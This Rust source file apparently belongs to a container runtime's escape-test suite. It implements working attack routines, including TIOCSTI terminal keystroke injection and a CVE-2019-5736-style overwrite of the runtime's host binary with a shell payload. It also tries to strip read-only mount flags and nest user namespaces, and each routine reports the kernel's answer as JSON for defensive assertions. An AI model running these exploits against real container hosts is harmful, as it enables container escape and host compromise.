//! Attacks the escape tests make from inside a container. Each prints one
//! JSON object saying what the kernel answered, so the tests can assert
//! that den refused them.

use std::ffi::CString;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::errno_name;

fn last_errno() -> String {
    errno_name(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
}

/// `tiocsti TEXT`: push TEXT into the input of the terminal on each of our
/// stdio descriptors and /dev/tty (CVE-2016-9016 class): keystrokes the
/// caller's shell would read.
pub fn tiocsti(text: &str) {
    let mut report = serde_json::Map::new();
    let tty = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open("/dev/tty");
    let mut fds: Vec<(String, i32)> = (0..3).map(|fd| (format!("fd{fd}"), fd)).collect();
    match &tty {
        Ok(f) => fds.push(("dev_tty".into(), f.as_raw_fd())),
        Err(e) => {
            report.insert("dev_tty".into(), json!(format!("open: {e}")));
        }
    }
    for (name, fd) in fds {
        // SAFETY: isatty only inspects the descriptor.
        let isatty = unsafe { libc::isatty(fd) } == 1;
        let mut result = "ok".to_string();
        for b in text.bytes() {
            let c = b as libc::c_char;
            // SAFETY: TIOCSTI reads one byte from the pointer we pass.
            if unsafe { libc::ioctl(fd, libc::TIOCSTI, &c as *const libc::c_char) } != 0 {
                result = last_errno();
                break;
            }
        }
        report.insert(name, json!({"isatty": isatty, "tiocsti": result}));
    }
    // SAFETY: getsid/getpgrp/getpid only read our own ids.
    let (sid, pgrp, pid) = unsafe { (libc::getsid(0), libc::getpgrp(), libc::getpid()) };
    report.insert("own_session".into(), json!(sid == pid));
    report.insert("own_group".into(), json!(pgrp == pid));
    println!("{}", serde_json::Value::Object(report));
}

/// Pids whose argv[0] is `argv0`, ourselves left out.
fn find(argv0: &str) -> Vec<i32> {
    let me = std::process::id() as i32;
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        let first = cmdline.split(|b| *b == 0).next().unwrap_or(&[]);
        if pid != me && first == argv0.as_bytes() {
            out.push(pid);
        }
    }
    out
}

/// `overwrite-exe ARGV0`: CVE-2019-5736. Wait for a process started as
/// ARGV0 (`/proc/self/exe`, which makes the kernel run den's own binary
/// in the container), keep a descriptor of its executable, kill it, and
/// once the file is no longer busy, open it for writing through that
/// descriptor and write over its start (retrying while another process
/// still runs the same file).
pub fn overwrite_exe(argv0: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    let pid = loop {
        if let Some(p) = find(argv0).first() {
            break *p;
        }
        if Instant::now() > deadline {
            println!(
                "{}",
                json!({"error": format!("no process started as {argv0}")})
            );
            return;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let exe = match std::fs::File::open(format!("/proc/{pid}/exe")) {
        Ok(f) => f,
        Err(e) => {
            println!("{}", json!({"pid": pid, "open_exe": e.to_string()}));
            return;
        }
    };
    let path = CString::new(format!("/proc/self/fd/{}", exe.as_raw_fd())).unwrap_or_default();
    // SAFETY: open of a valid C string; the descriptor is closed below.
    let busy = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    let while_running = if busy < 0 { last_errno() } else { "ok".into() };
    if busy >= 0 {
        // SAFETY: closing the descriptor we just opened.
        unsafe { libc::close(busy) };
    }
    // With CAP_SYS_ADMIN: make the mount under the file writable again,
    // or clone it and make the clone writable.
    let unwrap = unwrap_read_only(&exe);
    // SAFETY: kill takes a pid and a signal number.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    while std::path::Path::new(&format!("/proc/{pid}/exe")).exists()
        && Instant::now() < deadline + Duration::from_secs(5)
    {
        std::thread::sleep(Duration::from_millis(10));
    }
    // The file stays busy while any process runs it: try until it is not.
    let fd = loop {
        // SAFETY: as above.
        let fd = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
        let busy = fd < 0 && std::io::Error::last_os_error().raw_os_error() == Some(libc::ETXTBSY);
        if !busy || Instant::now() > deadline + Duration::from_secs(10) {
            break fd;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let after_exit = if fd < 0 {
        last_errno()
    } else {
        let payload = b"#!/bin/sh\necho pwned\n";
        // SAFETY: writes from a valid buffer to our descriptor, then closes it.
        let n = unsafe { libc::pwrite(fd, payload.as_ptr().cast(), payload.len(), 0) };
        // SAFETY: closing the descriptor we opened.
        unsafe { libc::close(fd) };
        if n < 0 {
            format!("write: {}", last_errno())
        } else {
            "ok".into()
        }
    };
    println!(
        "{}",
        json!({"pid": pid, "write_while_running": while_running, "write_after_exit": after_exit, "unwrap": unwrap})
    );
}

/// `struct mount_attr` of mount_setattr(2).
#[repr(C)]
struct MountAttr {
    attr_set: u64,
    attr_clr: u64,
    propagation: u64,
    userns_fd: u64,
}

/// Try to lift MOUNT_ATTR_RDONLY from the mount under `file`, and from a
/// clone of it (open_tree); what each attempt got.
fn unwrap_read_only(file: &std::fs::File) -> serde_json::Value {
    let attr = MountAttr {
        attr_set: 0,
        attr_clr: 0x1, // MOUNT_ATTR_RDONLY
        propagation: 0,
        userns_fd: 0,
    };
    let setattr = |fd: i32| -> String {
        // SAFETY: mount_setattr reads `attr` (of the size given) during the call.
        let rc = unsafe {
            libc::syscall(
                libc::SYS_mount_setattr,
                fd,
                c"".as_ptr(),
                libc::AT_EMPTY_PATH,
                &attr as *const MountAttr,
                std::mem::size_of::<MountAttr>(),
            )
        };
        if rc == 0 {
            "ok".into()
        } else {
            last_errno()
        }
    };
    let in_place = setattr(file.as_raw_fd());
    // SAFETY: open_tree takes a descriptor, an empty C string and flags.
    let clone = unsafe {
        libc::syscall(
            libc::SYS_open_tree,
            file.as_raw_fd(),
            c"".as_ptr(),
            (libc::AT_EMPTY_PATH as u32 | 1 /* OPEN_TREE_CLONE */ | libc::O_CLOEXEC as u32)
                as libc::c_uint,
        )
    };
    let cloned = if clone < 0 {
        format!("open_tree: {}", last_errno())
    } else {
        let r = setattr(clone as i32);
        // SAFETY: closing the descriptor open_tree returned.
        unsafe { libc::close(clone as i32) };
        r
    };
    json!({"mount_setattr": in_place, "clone": cloned})
}

/// `exe-mount PID`: whether the executable of PID lies on a read-only
/// mount (where no container process can write to it).
pub fn exe_mount(pid: &str) {
    let Ok(c) = CString::new(format!("/proc/{pid}/exe")) else {
        return;
    };
    // SAFETY: statvfs fills the plain struct we pass.
    let mut vfs: libc::statvfs = unsafe { std::mem::zeroed() };
    // SAFETY: `c` is a valid C string and `vfs` a valid out pointer.
    let result = if unsafe { libc::statvfs(c.as_ptr(), &mut vfs) } != 0 {
        last_errno()
    } else if vfs.f_flag & libc::ST_RDONLY != 0 {
        "readonly".into()
    } else {
        "writable".into()
    };
    println!("{}", json!({"exe": result}));
}

/// `deep-tree N`: build a tree N directories deep under the working
/// directory, one level at a time by relative names (no path gets long).
pub fn deep_tree(depth: &str) {
    let n: usize = depth.parse().unwrap_or(0);
    for i in 0..n {
        let made = std::fs::create_dir("d").and_then(|_| std::env::set_current_dir("d"));
        if let Err(e) = made {
            println!("{}", json!({"depth": i, "error": e.to_string()}));
            std::process::exit(1);
        }
    }
    println!("{}", json!({"depth": n}));
}

/// `nest-userns`: move into a user and a network namespace of our own
/// (as a container that nests containers does), map our root to its
/// root, print `{"nested": "ok"}` and wait: another container that joins
/// our network must not land in a user namespace we rule.
pub fn nest_userns() {
    // SAFETY: unshare with constant flags, no pointers.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNET) } != 0 {
        println!("{}", json!({"nested": last_errno()}));
        std::process::exit(1);
    }
    let _ = std::fs::write("/proc/self/setgroups", "deny");
    let _ = std::fs::write("/proc/self/uid_map", "0 0 1");
    let _ = std::fs::write("/proc/self/gid_map", "0 0 1");
    println!("{}", json!({"nested": "ok"}));
    loop {
        std::thread::sleep(Duration::from_secs(3600));
    }
}
